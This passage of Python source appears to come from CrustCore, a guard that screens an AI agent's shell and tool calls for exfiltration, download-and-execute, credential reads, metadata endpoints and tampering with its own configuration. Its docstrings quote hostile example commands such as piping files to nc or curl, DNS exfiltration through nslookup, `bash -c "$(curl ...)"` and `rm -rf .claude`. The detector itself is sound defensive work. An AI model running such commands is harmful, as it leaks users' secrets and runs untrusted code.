            if targets and all(_is_loopback(t.host) for t in targets):
                continue  # a local development server is not another host
            uploads = _uploaded_files(fact) if fact in senders else []
            if fact in code_net and fact.code is not None:
                uploads.extend(fact.code.reads)
            for path in [*line_reads, *uploads]:
                if path in ("-", "/dev/stdin"):
                    continue
                found = self._resolve(path, op.cwd)
                if self._outside_sensitive(found):
                    raise run.deny(
                        "builtin:exfiltration",
                        f"`{_short(analysis.command)}` sends {path} to the network",
                        op,
                    )
            for path in uploads:
                if fact in senders and path not in ("-", "/dev/stdin"):
                    run.ask(
                        "builtin:upload-file",
                        f"`{_short(analysis.command)}` uploads {path}",
                        op,
                    )
                    return

    @staticmethod
    def _stdin_upload(analysis: ShellAnalysis, op: Operation, run: _Run) -> None:
        """A network client that sends its standard input sends what arrives there: the file
        redirected into it (`ssh host 'cat > x' < FILE`, `python3 -c CODE < FILE` when the
        code sends its input) and what the earlier stages of its pipeline read (`cat FILE |
        nc host 80`, `tar cz . | ssh host 'cat > x'`, `git bundle create - --all | curl -T -
        URL`): uploads as surely as `scp`, which is asked. Loopback destinations are exempt."""
        commands = analysis.commands
        upstream_of: dict[int, tuple[int, int]] = {}
        for first, end, source in analysis.piped:  # an inner pipeline's entry comes first
            for index in range(first, end):
                upstream_of.setdefault(index, (source, first))
        for index, fact in enumerate(commands):
            targets = _stdin_targets(fact)
            if not targets or all(_is_loopback(t.host) for t in targets):
                continue  # not a client that sends its input, or a local service
            sent: tuple[str, str] | None = next(
                (
                    (r.target, "redirected into it")
                    for r in fact.redirects
                    if r.kind is ShellOp.READ and r.target != "/dev/null"
                ),
                None,
            )
            if sent is None and index in upstream_of:
                source, first = upstream_of[index]
                for upstream in commands[source:first]:
                    read = _repository_output(upstream) or _first_read(upstream)
                    if read is not None:
                        sent = (read, f"read by {upstream.name} and piped into it")
                        break
            if sent is not None:
                run.ask(
                    "builtin:upload-file",
                    f"`{_short(analysis.command)}` sends {_short(sent[0])} ({sent[1]}) "
                    f"through {fact.name} to the network",
                    op,
                )
                return

    @staticmethod
    def _substituted_upload(analysis: ShellAnalysis, op: Operation, run: _Run) -> None:
        """A file read by a command substitution in the words of a program that carries its
        words to another host sends that file: `curl -d "$(cat src/app.py)" URL`, `nslookup
        $(base64 -w0 FILE | head -c 60).host`, `curl -d "$(< FILE)" URL`, as `curl -d
        @src/app.py URL` does (asked); so does one in a here-string or here-document fed to a
        client that sends its input (`nc host 80 <<< "$(cat FILE)"`). A substitution's
        commands come before the command whose words they fill, one level deeper; one for an
        assignment (`v=$(cat VERSION)`) fills no command's words and is dropped at the next
        command of its level."""
        for fact, mine in _fed_substitutions(analysis):
            if mine and fact.name.lower() in _CODE_RUNNERS and _fills_words(fact, here=True):
                fetched = next((sub for sub in mine if _fetches_remote(sub)), None)
                if fetched is not None:
                    # `bash -c "$(curl -fsSL URL)"`, `eval "$(curl URL)"`: `curl | sh`.
                    raise run.deny(
                        "builtin:download-and-execute",
                        f"`{_short(analysis.command)}` runs as code what {fetched.name} downloads",
                        op,
                    )
            reads = [read for read in map(_first_read, mine) if read is not None]
            reads += _slurped(fact)
            if not reads:
                continue
            targets: tuple[NetworkTarget, ...] = ()
            if fact.name.lower() in SECRET_SINKS and _fills_words(fact, here=False):
                targets = fact.network or (NetworkTarget(None, None, None, fact.name),)
            elif any(r.op.startswith("<<") for r in fact.redirects):
                targets = _stdin_targets(fact)
            if not targets or all(_is_loopback(t.host) for t in targets):
                continue
            run.ask(
                "builtin:upload-file",
                f"`{_short(analysis.command)}` sends {_short(reads[0])}, read into what "
                f"{fact.name} sends",
                op,
            )
            return

    def _client_config(self, analysis: ShellAnalysis, op: Operation, run: _Run) -> None:
        """curl and wget read default options from the home directory (`~/.curlrc`,
        `$XDG_CONFIG_HOME/curlrc`, `~/.wgetrc`), and git, ssh, npm and pip their
        configuration; a line that moves HOME or XDG_CONFIG_HOME for them points them at
        settings this check never sees, which can send any file or run any command. (HOME set
        to the home directory itself moves nothing.)"""
        moved = [
            n
            for n, v in analysis.env_assignments
            if n in ("HOME", "XDG_CONFIG_HOME") and lexical_clean(v) != self._home
        ]
        if not moved:
            return
        for fact in analysis.commands:
            if fact.name in ("curl", "wget") and fact.argv[1:2] not in (("-q",), ("--disable",)):
                run.ask(
                    "builtin:upload-file",
                    f"`{_short(analysis.command)}` sets {moved[0]}, so {fact.name} reads its "
                    "default options from a place this check does not read; they can send "
                    "any file",
                    op,
                )
                return
            if fact.name in _HOME_CONFIGURED:
                # `HOME=/tmp/x git log` after a `/tmp/x/.gitconfig` with `core.pager = ...`:
                # the configuration git, ssh or npm reads there can name commands they run.
                run.ask(
                    "builtin:unparsed-command",
                    f"`{_short(analysis.command)}` sets {moved[0]}, so {fact.name} reads its "
                    "configuration from a place this check does not read; it can name "
                    "commands to run",
                    op,
                )
                return

    def _outside_sensitive(self, found: ResolvedPath) -> bool:
        """A path outside the workspace and the temp directories, in the home directory or a
        system location (where other people's and the machine's data lives)."""
        if found.confined or self._in_temp(found):
            return False
        for form in (found.lexical, found.real):
            if form in _DEV_OK or form.startswith("/usr/share/"):
                return False
        return True

    # ------------------------------------------------------------------ checks

    def _check_env_name(
        self,
        name: str,
        what: str,
        run: _Run,
        op: Operation,
        value: str | None = None,
        *,
        cwds: Iterable[str | None] = (None,),
    ) -> None:
        """`cwds`: where the command that sees the variable may run (relative entries of a
        library search path are judged from each)."""
        upper = name.upper()
        if upper == "NODE_OPTIONS" and value is not None and _inert_node_options(value):
            return  # `--max-old-space-size=4096`: a heap size loads no code
        if upper in _LIBRARY_PATHS:
            outside = self._library_outside(upper, value, cwds)
            if outside is not None:
                raise run.deny(
                    "builtin:dangerous-env",
                    f"{what} to {outside!r}, which is not a directory of the workspace: "
                    "modules there would load before the program's own",
                    op,
                )
            return
        if upper in _DANGEROUS_ENV or upper.startswith(_DANGEROUS_ENV_PREFIXES):
            raise run.deny("builtin:dangerous-env", what, op)
        running = _RUNNING_VALUES.get(upper)
        if running is not None and value is not None and any(r in value for r in running):
            raise run.deny("builtin:dangerous-env", what, op)
        if upper == "DOCKER_HOST" and value is not None and _remote_daemon(value):
            run.ask(
                "builtin:upload-file",
                f"{what}: docker would send build contexts and mounted files to {value}",
                op,
            )
        if upper in INDEX_VARIABLES and value is not None:
            index = index_address(value)
            if index is not None:
                run.ask(
                    "builtin:install-from-address",
                    f"{what}: packages would come from {index!r}, an index other than the "
                    "registry's",
                    op,
                )

    def _library_outside(
        self, name: str, value: str | None, cwds: Iterable[str | None]
    ) -> str | None:
        """The first entry of a library search path (`name`'s `value`) that is not inside the
        workspace, or that cannot be worked out; None when every entry is inside."""
        if value is None:
            return "(a value this check cannot work out)"
        # An empty entry is the working directory, as is one left by the inherited value.
        ref = "$" + name
        own = _INHERITED[name].sub(lambda m: (m.group(1) or "").replace(ref, ""), value)
        entries = own.split(":")
        for entry in entries:
            if "$" in entry or "`" in entry:
                return entry
            for cwd in cwds:
                if not self._resolve(entry or ".", cwd).confined:
                    return entry or "."
        return None

    def _check_host(self, host: str, op: Operation, run: _Run) -> None:
        hit = metadata_endpoint(host)
        if hit is not None:
            raise run.deny("builtin:metadata-endpoint", f"{host!r} is the endpoint {hit}", op)

    def _check_text(self, text: str, run: _Run) -> None:
        """Checks on whole command lines and URLs: metadata endpoints in any spelling, URLs
        whose scheme writes raw bytes to a port, and any mention of CrustCore's home."""
        decoded = _normalized(text, percent=True).normalized
        for variant in (text, decoded) if decoded != text else (text,):
            for hit in find_metadata_hosts(variant):
                raise run.deny("builtin:metadata-endpoint", f"`{_short(text)}` reaches {hit}")
        parsed = split_url(decoded)
        if parsed is not None and parsed.host:
            self._check_host(parsed.host, Operation(OpKind.NETWORK, urls=(text,)), run)
        if parsed is not None and parsed.scheme in _RAW_BYTE_SCHEMES:
            run.ask("builtin:protocol-smuggling", f"`{_short(text)}` is a {parsed.scheme}: URL")
        self._check_markers(text, run)

    def _check_markers(self, text: str, run: _Run) -> None:
        """Any mention of CrustCore's home, in the whole text (data included)."""
        lowered = (text if text.isascii() else normalize_text(text)).lower()
        for marker in self._markers:
            if marker in lowered:
                raise run.deny(
                    "builtin:self-protection", f"`{_short(text)}` names CrustCore's home"
                )

    def _in_crustcore_home(self, form: str) -> bool:
        lowered = form.lower().rstrip("/")
        return any(lowered == cc or lowered.startswith(cc + "/") for cc in self._cc_lower)

    def _cc_markers(self) -> tuple[str, ...]:
        markers = [f.lower() for f in self._cc_forms]
        markers.extend(("/.crustcore", "$crustcore_home", "${crustcore_home}"))
        for form in self._cc_forms:
            if is_within(form, self._home) and form != self._home:
                rel = form[len(self._home) :].lower()
                markers.extend(("~" + rel, "$home" + rel, "${home}" + rel))
        return tuple(markers)

    def _check_path(self, path_op: _PathOp, run: _Run) -> None:
        kind = path_op.kind
        op = path_op.op
        shown = path_op.written
        for form in path_op.forms:
            if self._in_crustcore_home(form):
                raise run.deny(
                    "builtin:self-protection", f"{kind.value} of {shown} (CrustCore home)", op
                )
        if path_op.listing:
            return
        for form in path_op.forms:
            found = self._index.match(form, kind)
            if found is not None:
                self._path_hit(found, path_op, form, run)
        for form in path_op.placed:
            found = self._index.match(form, kind)
            if found is not None or self._in_crustcore_home(form):
                name = found.name if found is not None else "builtin:self-protection"
                what = (
                    f"{kind.value} of {shown}: part of it cannot be pinned down (a command's "
                    f"output, an unset variable, another process's directory or descriptor), "
                    f"and it may be {form}"
                )
                if found is None or found.verdict is Verdict.DENY:
                    raise run.deny(name, what, op)
                run.ask(name, what, op)
        if kind is not OpKind.WRITE:
            self._check_tree(path_op, run)
        elif any(f": {tool} (" in path_op.op.source for tool in _PERMISSION_TOOLS):
            # `chmod -R 000 .claude`: settings no one can read are as good as gone
            for form in path_op.forms:
                if is_within(form, self._workspace):
                    self._check_held(form, kind, path_op.op, run)
        if path_op.mention:
            return
        if kind is OpKind.READ:
            if not run.flow_sensitive and any(
                self._sensitive.match(form, OpKind.READ) is not None for form in path_op.forms
            ):
                run.flow_sensitive = f"read of {shown}"
            return
        self._confine(path_op, run)

    def _check_tree(self, path_op: _PathOp, run: _Run) -> None:
        """A read or delete of a directory outside the workspace covers its whole tree: it must
        not hold a protected location (`grep -r key ~`, `find ~ -name credentials | xargs
        cat`). Inside the workspace, whole-tree reads are everyday work and stay allowed; a
        delete (or a move away) of a directory is judged by the agent configuration it holds
        (`rm -rf .claude`, `mv .claude /tmp/x`), as a delete of that file would be."""
        for form in path_op.forms:
            if is_within(form, self._workspace):
                if path_op.kind is OpKind.DELETE:
                    self._check_deleted_tree(form, path_op, run)
                continue
            found = self._index.beneath(form, path_op.kind)
            if found is None:
                continue
            what = f"{path_op.kind.value} of {form}, a tree that holds files this rule protects"
            if found.verdict is Verdict.DENY:
                raise run.deny(found.name, what, path_op.op)
            run.ask(found.name, what, path_op.op)

    def _check_deleted_tree(self, form: str, path_op: _PathOp, run: _Run) -> None:
        """A delete in the workspace, judged by the agent configuration it takes with it: of a
        directory (`rm -rf .claude`), of what a find-like glob selects below one (`ROOT/**` or
        `ROOT/**/NAME`, from `find ROOT -name NAME -delete` or `find ... | xargs rm`), or of
        whatever `find`'s other tests select, which is not known and so only asked about."""
        kind, op = path_op.kind, path_op.op
        head, _, leaf = form.rpartition("/")
        found = _deep_glob(form)
        if found is not None:
            root, selected = found
            self._check_held(root, kind, op, run, leaf=selected, deep=True, shown=form)
        elif leaf == "**" and head and not _has_glob(head):
            self._check_held(head, kind, op, run, deep=True, shown=form)  # `ROOT/**`: all of it
        elif head and _has_glob(leaf) and not _has_glob(head):
            self._check_held(head, kind, op, run, leaf=leaf, shown=form)  # `rm -rf .claude/*`
        elif not _has_glob(form):
            unknown = FILTERED_DELETE in op.source
            self._check_held(form, kind, op, run, ask="if its tests select it" if unknown else "")

    def _check_held(
        self,
        top: str,
        kind: OpKind,
        op: Operation,
        run: _Run,
        *,
        leaf: str = "",
        deep: bool = False,
        ask: str = "",
        shown: str = "",
    ) -> None:
        """The first file below `top` (a directory in the workspace) that the agent's
        configuration or CrustCore's home protects, from the bounded breadth-first walk of
        `_walk_tree`, so what lies near the top (`.claude/settings.json`) is seen even in a
        large tree. With a `leaf` glob only what it selects counts, and everything below a
        directory it selects: at any depth (`deep`, find's `-name`/`-iname`, which match
        dotfiles too) or only directly in `top` (a shell glob, whose wildcards do not match a
        leading `.`); names are matched in any case. `ask`: the operation may not take that
        file (`find`'s tests select what goes), so the user is asked, whatever the rule, with
        this said of it."""
        if not os.path.isdir(top) or os.path.islink(top):
            return
        pattern = leaf.lower()
        dotted = deep or pattern.startswith(".")
        selected: set[str] = set()  # directories (relative to `top`) the glob selects
        for path, rel, is_dir in _walk_tree(top):
            parent, _, name = rel.rpartition("/")
            goes = (
                not pattern
                or parent in selected
                or (
                    (deep or not parent)
                    and (dotted or name[0] != ".")
                    and fnmatch.fnmatchcase(name.lower(), pattern)
                )
            )
            if goes and self._held(path, shown or top, kind, op, run, ask=ask):
                return
            if goes and is_dir:
                selected.add(rel)

    def _held(
        self, path: str, top: str, kind: OpKind, op: Operation, run: _Run, *, ask: str
    ) -> bool:
        """Judge one file a delete below `top` takes with it (see `_check_held`): True when it
        is protected (and the call asked about; a denial is raised)."""
        found = self._index.match(path, OpKind.DELETE)
        name = found.name if found is not None else ""
        if name not in _HELD_RULES and self._in_crustcore_home(path):
            name, what = "builtin:self-protection", "CrustCore's home"
        elif name in _HELD_RULES:
            what = path
        else:
            return False
        verdict = found.verdict if found is not None and name == found.name else Verdict.DENY
        if ask:
            what = f"{what}, {ask}"
            verdict = Verdict.ASK
        what = f"{kind.value} of {top}, which takes {what}"
        if verdict is Verdict.DENY:
            raise run.deny(name, what, op)
        run.ask(name, what, op)
        return True

    @staticmethod
    def _path_hit(found: BuiltinRule, path_op: _PathOp, form: str, run: _Run) -> None:
        shown = path_op.written
        where = shown if form == shown else f"{shown} (as {form})"
        what = f"{path_op.kind.value} of {where}"
        if found.verdict is Verdict.DENY:
            raise run.deny(found.name, what, path_op.op)
        run.ask(found.name, what, path_op.op)

    def _in_temp(self, found: ResolvedPath) -> bool:
        """Inside a temporary directory (and not in the home directory, which tests and some
        systems keep under /tmp)."""
        if is_within(found.lexical, self._home) or is_within(found.real, self._home):
            return False
        return any(
            is_within(found.lexical, t) and is_within(found.real, os.path.realpath(t))
            for t in self._temp_roots
        )

    def _confine(self, path_op: _PathOp, run: _Run) -> None:
        op = path_op.op
        shown = path_op.written
        for found in path_op.resolved:
            if found.lexical in _DEV_OK or found.real in _DEV_OK:
                continue
            if found.confined:
                self._recursive_delete(path_op, found, run)
                continue
            if self._in_temp(found) and PathSignal.UNKNOWN_VAR not in found.signals:
                continue
            for form in (found.lexical, found.real):
                if form == "/" or any(is_within(form, root) for root in _SYSTEM_ROOTS):
                    raise run.deny(
                        "builtin:system-write", f"{path_op.kind.value} of {shown} ({form})", op
                    )
            why = "outside the workspace"
            if not found.signals.isdisjoint(_UNPINNED):
                why = "a path CrustCore cannot pin down"
            elif PathSignal.SYMLINK_ESCAPE in found.signals:
                why = "a symlink that leads outside the workspace"
            if (
                path_op.kind is OpKind.DELETE
                and path_op.recursive
                and (found.lexical in (self._home, "/") or found.real in (self._home, "/"))
            ):
                run.ask("approval:recursive-delete", f"recursive delete of {shown}", op)
            run.ask(
                "approval:write-outside-workspace",
                f"{path_op.kind.value} of {shown} ({found.real}) is {why}",
                op,
            )
            return

    def _recursive_delete(self, path_op: _PathOp, found: ResolvedPath, run: _Run) -> None:
        if path_op.kind is not OpKind.DELETE or not path_op.recursive:
            return
        ws = self._workspace
        for form in (found.lexical, found.real):
            rel = form[len(ws) :].lstrip("/") if form.startswith(ws) else None
            if form == self._workspace_real:
                rel = ""
            if rel is None:
                continue
            top = rel.split("/", 1)[0]
            if rel == "" or top == ".git" or (rel.count("/") == 0 and _has_glob(rel)):
                run.ask(
                    "approval:recursive-delete",
                    f"recursive delete of {path_op.written}",
                    path_op.op,
                )
                return

    def _dlp(self, call: ToolCall, run: _Run) -> None:
        """Real credentials in anything the call writes or sends: every string argument except
        the text an edit replaces."""
        pieces: list[str] = []
        _strings(call.args, pieces, 0)
        if self._env_secrets:
            pieces.extend(_unexpand(word, self._env_secrets) for word in run.words)
        else:
            pieces.extend(run.words)
        text = "\n".join(pieces)
        if not text:
            return
        for finding in scan(text[:_MAX_DLP_CHARS]):
            if finding.blocking:
                raise run.deny(
                    "builtin:secret-in-arguments",
                    f"a {finding.type} credential (line {finding.line} of the arguments)",
                )

    # ------------------------------------------------------------------ user rules, MCP, flow

    def _user_rules(self, call: ToolCall, run: _Run) -> _Hit | None:
        rules = self._policy.rules
        if not rules:
            return None  # nothing below can match, lift an ask or mark a read
        tool = run.ex.tool
        origin = call.origin
        lifted_asks: set[int] = set()
        first_ask: _Hit | None = None
        path_forms: dict[int, list[str]] = {}
        for path_op in run.path_ops:
            path_forms.setdefault(id(path_op.op), []).extend((path_op.written, *path_op.forms))
        for op in run.ops:
            paths = path_forms.get(id(op), list(op.paths))
            hosts = list(op.hosts)
            content = op.content
            matched: list[UserRule] = [
                r
                for r in rules
                if r.matches(tool, op.kind, paths, hosts, op.command, content, origin)
            ]
            allowed = any(r.action is Verdict.ALLOW for r in matched)
            if allowed:
                lifted_asks.add(id(op))
            for r in matched:
                if r.action is Verdict.DENY:
                    if allowed:
                        if op.kind is OpKind.READ and not run.flow_sensitive:
                            run.flow_sensitive = f"read of {', '.join(op.paths)} (user exception)"
                        continue
                    return _Hit(Verdict.DENY, f"user:{r.name}", r.reason, op=op)
                if r.action is Verdict.ASK and not allowed and first_ask is None:
                    first_ask = _Hit(Verdict.ASK, f"user:{r.name}", r.reason, op=op)
        if lifted_asks:
            run.asks = [
                a
                for a in run.asks
                if not (a.liftable and a.op is not None and id(a.op) in lifted_asks)
            ]
        return first_ask

    def _mcp_policy(self, call: ToolCall, ex: Extraction) -> _Hit | None:
        is_mcp = call.origin is Origin.MCP or ex.server is not None
        if not is_mcp:
            return None
        # A pure function of the (immutable) policy, the server, the tool name and whether
        # extraction knows the tool, so its answer is kept per engine (bounded).
        key = (ex.server, ex.base_tool, ex.known_tool)
        if key in self._mcp_memo:
            return self._mcp_memo[key]
        hit = self._mcp_policy_uncached(ex.server, ex.base_tool, ex.known_tool)
        if len(self._mcp_memo) >= _MAX_CACHE:
            self._mcp_memo.clear()
        self._mcp_memo[key] = hit
        return hit

    def _mcp_policy_uncached(self, server: str | None, tool: str, known: bool) -> _Hit | None:
        policy = self._policy.server(server)
        label = f"{server or '?'}/{tool}"
        if policy is not None:
            if any(w.match(tool) for w in policy.deny_tools):
                return _Hit(Verdict.DENY, "mcp:tool-policy", f"MCP tool {label} is denied by the "
                            "server's deny_tools")  # fmt: skip
            if any(w.match(tool) for w in policy.allow_tools):
                return None
            if known:
                return None
            verdict = policy.unknown_tools
        else:
            if known:
                return None
            verdict = self._policy.default_mcp
        if verdict is Verdict.ALLOW:
            return None
        return _Hit(
            verdict,
            "mcp:tool-policy",
            f"MCP tool {label} is not in the policy for its server; add it to "
            f"[policy.mcp.{server or 'SERVER'}] allow_tools in crustcore.toml if it is safe",
        )

    def _shell_flow(self, analysis: ShellAnalysis, run: _Run) -> None:
        """Note what a shell line adds to the session flow beyond its operations: programs
        that reach another host without a host the analyser can name, and output that holds
        secret values (see `flowfacts`)."""
        found = shell_flow(analysis)
        run.flow_untrusted = run.flow_untrusted or found.untrusted
        run.flow_sensitive = run.flow_sensitive or found.sensitive
        run.flow_sends = run.flow_sends or found.sends

    def _flow(self, call: ToolCall, run: _Run) -> CallFlow:
        untrusted = ""
        sends = ""
        for op in run.ops:
            if op.kind is OpKind.NETWORK and not sends:
                target = op.hosts[0] if op.hosts else (op.urls[0] if op.urls else "the network")
                sends = f"network request to {target}"
                untrusted = untrusted or f"content fetched from {target}"
        sends = sends or run.flow_sends
        untrusted = untrusted or run.flow_untrusted
        if (call.origin is Origin.MCP or run.ex.server is not None) and not run.ex.known_tool:
            # A tool whose effects extraction does not know: its result is the server's words
            # and its arguments go to the server. Known tools (the filesystem server's
            # `read_file`, ...) are judged by their operations, like the agent's own tools.
            label = run.ex.tool
            untrusted = untrusted or f"result of MCP tool {label}"
            sends = sends or f"MCP tool {label}"
        if not untrusted:
            # A file outside the workspace may hold anyone's words (a download, another
            # project, a temp file). The sensitive-class files (`~/.ssh/config`, `~/.gitconfig`,
            # ...) are the user's own configuration: reading one makes the session sensitive,
            # not untrusted, so one such read followed by `git push` is not two legs at once.
            for path_op in run.path_ops:
                if path_op.kind is not OpKind.READ or path_op.listing:
                    continue
                if not any(not r.confined for r in path_op.resolved):
                    continue
                if any(self._sensitive.match(f, OpKind.READ) is not None for f in path_op.forms):
                    continue
                untrusted = f"read of {path_op.written} outside the workspace"
                break
        return CallFlow(
            untrusted_source=bool(untrusted),
            sensitive_source=bool(run.flow_sensitive),
            sends_out=bool(sends),
            untrusted_why=untrusted,
            sensitive_why=run.flow_sensitive,
            sends_why=sends,
        )


# --------------------------------------------------------------------------- helpers

_REMOTE_SHELL = frozenset({ShellSignal.REVERSE_SHELL, ShellSignal.DEV_TCP})
_UNPINNED = frozenset({PathSignal.UNKNOWN_VAR, PathSignal.DEV_FD})
_SHELL_TO_OP: dict[ShellOp, OpKind] = {
    ShellOp.READ: OpKind.READ,
    ShellOp.WRITE: OpKind.WRITE,
    ShellOp.DELETE: OpKind.DELETE,
    ShellOp.LIST: OpKind.READ,
    ShellOp.CHMOD: OpKind.WRITE,
    ShellOp.CHOWN: OpKind.WRITE,
    ShellOp.LINK: OpKind.WRITE,
}
_FIND_EXEC = frozenset({"-exec", "-execdir", "-ok", "-okdir"})
_INERT_PROGRAMS = frozenset(
    {
        "echo", "printf", "ls", "dir", "test", "[", "[[", "which", "type", "dirname",
        "basename", "realpath", "mkdir", "cd", "pushd", "popd", "export", "true", "false",
        "stat", "du", "df", "touch", "npm", "pnpm", "yarn", "pip", "uv",
    }
)  # fmt: skip
_ENV_DUMPERS = frozenset({"env", "printenv", "set", "declare", "export", "compgen"})


def _runs_alone_first(fact: CommandFact, line: str) -> bool:
    """Whether `fact` opens `line` and ends before anything else on it runs: its text starts
    the line and is followed by `&&`, `||` or `;` (not by `|` or `&`, which run side by side)."""
    if fact.depth != 0 or not fact.text or not line.startswith(fact.text):
        return False
    rest = line[len(fact.text) :].lstrip(" \t")
    return rest.startswith(("&&", "||", ";")) and not rest.startswith(";;")


def _dumps_env(argv: Sequence[str] | None) -> bool:
    """Whether a command prints the whole environment (`env`, `printenv`, `export -p`, ...);
    also for the argv a container tool runs (`docker exec web env`)."""
    if not argv or len(argv) > 2:
        return False
    name = os.path.basename(argv[0])
    return name in _ENV_DUMPERS and (
        name in ("env", "printenv") or tuple(argv[1:]) in ((), ("-p",))
    )


def _reads_environ(fact: CommandFact) -> bool:
    """A process's environment read from `/proc/<pid>/environ` (inside a container, where
    paths are not judged, it is a secret source all the same), also as a client's upload
    (`curl -d @/proc/self/environ`)."""
    words = [a.rpartition("@")[2] for a in fact.argv[1:]]
    words.extend(r.target for r in fact.redirects)
    return any(w.startswith("/proc/") and w.endswith("/environ") for w in words)


_INTERPRETERS = frozenset(
    {
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "fish",
        "python",
        "python3",
        "node",
        "perl",
        "ruby",
        "php",
        "source",
        ".",
    }
)
_ZERO_UMASK = frozenset({"0", "00", "000", "0000"})
_DD_OK = frozenset({"of=/dev/null", "of=/dev/stdout", "of=/dev/stderr"})
_PUBLISH = {
    "npm": ("publish",), "pnpm": ("publish",), "yarn": ("publish", "npm publish"),
    "twine": ("upload",), "poetry": ("publish",), "uv": ("publish",), "cargo": ("publish",),
    "gem": ("push",), "docker": ("push",), "podman": ("push",), "mvn": ("deploy",),
    "gradle": ("publish",), "./gradlew": ("publish",), "gradlew": ("publish",),
    "flit": ("publish",), "hatch": ("publish",),
}  # fmt: skip
_SQL_DESTROY = ("drop table", "drop database", "drop schema", "truncate ", "dropdb")


_PWD_FORMS = ("$(pwd)", "`pwd`", "${PWD}", "$PWD", "$(pwd -P)")


def _pwd(path: str, cwd: str) -> str:
    """`$(pwd)` and `$PWD` at the start of a path are the working directory: determinable."""
    for form in _PWD_FORMS:
        if path.startswith(form) and (len(path) == len(form) or path[len(form)] in "/:"):
            return cwd + path[len(form) :]
    return path


_LOOPBACK_NAMES = frozenset({"localhost", "localhost.localdomain", "ip6-localhost"})


def _is_loopback(host: str | None) -> bool:
    if host is None:
        return False
    canon = canonical_host(host)
    if canon in _LOOPBACK_NAMES or canon.endswith(".localhost") or canon == "::1":
        return True
    return canon.startswith("127.") and canon.count(".") == 3


def _internal_error(exc: Exception) -> Decision:
    """A call the engine could not evaluate is denied, never passed (fail closed)."""
    found = rule("builtin:malformed-call")
    return Decision(
        Verdict.DENY,
        found.name,
        f"CrustCore could not evaluate this call ({type(exc).__name__}); it was denied. "
        "Send it again in plain form, and report the call if it is ordinary",
    )


_PLAIN = frozenset(
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 \t\n"
    "!\"#$&'()*+,-./:;<=>?@[]^_`{|}~"
)


def _normalized(text: str, *, percent: bool) -> Normalized:
    """`normalize_field`, with a fast path for plain ASCII text that has nothing to decode."""
    plain = text.isascii() and "\\" not in text and not (percent and "%" in text)
    if plain and _PLAIN.issuperset(text):
        return Normalized(text, text, changed=False, signals=frozenset())
    return normalize_field(text, percent=percent, escapes=percent)


_UNPLACED = frozenset(
    {PathSignal.UNKNOWN_VAR, PathSignal.NUMBER_VAR, PathSignal.PROC_CWD, PathSignal.DEV_FD}
)


def _placed(expanded: str, home: str) -> tuple[str, ...]:
    """Where a path with an undecidable part may lead: each tail after the last such part,
    put under the home directory and under `/`. `$(dirname ~/x)/.aws/credentials`,
    `$D/../.kube/config` and `/proc/1234/cwd/.netrc` read a protected file when the part that
    cannot be pinned down is the home directory (or any directory above it), so a rule that
    protects `~/.aws/**` or `/etc/shadow` must see the tail there. Undecidable parts are
    `$...` and `` `...` `` left unexpanded, `~-`/`~+N`, the `cwd` of a process other than
    the agent's, and a descriptor number (`/dev/fd/3/...`)."""
    segments = [s for s in expanded.replace("\\", "/").split("/") if s and s != "."]
    first = 0
    for index, segment in enumerate(segments):
        if (
            "$" in segment
            or "`" in segment
            or (index == 0 and segment.startswith(("~-", "~+")))
            or (index >= 1 and segments[index - 1] == "fd" and segment.isdigit())
            or (segment == "cwd" and _other_process(segments[max(0, index - 4) : index]))
        ):
            first = index + 1
    if first == 0:
        return ()
    out: dict[str, None] = {}
    for start in range(max(first, len(segments) - _MAX_PLACED), len(segments)):
        tail = lexical_clean("/" + "/".join(segments[start:]))
        if tail != "/":
            out[home.rstrip("/") + tail] = None
            out[tail] = None
    return tuple(out)


def _other_process(before: list[str]) -> bool:
    """Whether `.../cwd` follows `proc/PID` or `proc/PID/task/TID` of a process other than
    the agent's own (`self`, `thread-self`), whose directory the resolver cannot know."""
    if "proc" not in before:
        return False
    at = len(before) - 1 - before[::-1].index("proc")
    rest = before[at + 1 :]
    return len(rest) in (1, 3) and rest[0] not in ("self", "thread-self")


def _forms(found: ResolvedPath) -> tuple[str, ...]:
    """`ResolvedPath.forms()`, without normalizing forms that are plain ASCII."""
    if found.case_folded is None and found.lexical.isascii() and found.real.isascii():
        if found.lexical == found.real:
            return (found.lexical,)
        return (found.lexical, found.real)
    return found.forms()


def _unexpand(word: str, secrets: tuple[tuple[str, str], ...]) -> str:
    """`word` with the values of the environment's secret variables put back as `$NAME`."""
    for value, name in secrets:
        if value in word:
            word = word.replace(value, name)
    return word


_STDIN_SOURCES = ("@-", "@/dev/stdin", "<-", "-")


def _secrets_to_their_own_hosts(analysis: ShellAnalysis) -> bool:
    """Whether every secret this line sends is in the URL of a request to where that secret
    belongs: a provider's key to the provider's own host (Gemini's `?key=$GEMINI_API_KEY`,
    Telegram's `/bot$TELEGRAM_BOT_TOKEN/`), or a secret that is the address itself
    (`curl -d ... $SLACK_WEBHOOK_URL`). That is how those APIs are called, not a leak. A
    request that also sends its standard input is never excused."""
    found = [f for f in analysis.findings if f.signal is ShellSignal.SECRET_EXFILTRATION]
    for finding in found:
        fact = next((c for c in analysis.commands if c.text == finding.text), None)
        if fact is None or not finding.reason.endswith(IN_URL) or not fact.network:
            return False
        if any(a.endswith(_STDIN_SOURCES) for a in fact.argv[1:]):
            return False
        for target in fact.network:
            written = target.url or target.host or ""
            if not written or not _url_secrets_at_home(written):
                return False
    return bool(found)


def _url_secrets_at_home(url: str) -> bool:
    names = [n for n in variable_names(url) if is_secret_name(n)]
    if not names:
        return False  # the secret is not a variable here: a value the engine knows, spelled out
    if len(names) == 1 and url.startswith((f"${names[0]}", f"${{{names[0]}}}")):
        return True  # the secret is the whole address: it goes where it points
    parsed = split_url(url)
    host = parsed.host if parsed is not None else ""
    if not host or "$" in host:
        return False
    return all(home_host(name, host) for name in names)


def _finding(analysis: ShellAnalysis, signal: ShellSignal, default: str) -> str:
    """The analyser's own reason for `signal` (the first one it gave), else `default`."""
    return next((f.reason for f in analysis.findings if f.signal is signal), default)


def _missing(path: str, named: str) -> bool:
    """Whether bare name `named` names nothing at `path`; a name with a part that cannot be
    pinned down (`$X`, `` `cmd` ``) or a response file (`@FILE`) may name something."""
    if "$" in named or "`" in named or named.startswith("@"):
        return False
    try:
        return not os.path.lexists(path)
    except (OSError, ValueError):
        return False


def _norm_text(text: str) -> str:
    return text if text.isascii() else normalize_text(text)


def _strings(value: object, out: list[str], depth: int) -> None:
    if depth > 40:
        return
    if isinstance(value, str):
        out.append(value)
    elif isinstance(value, Mapping):
        mapping = cast("Mapping[object, object]", value)
        for key, child in mapping.items():
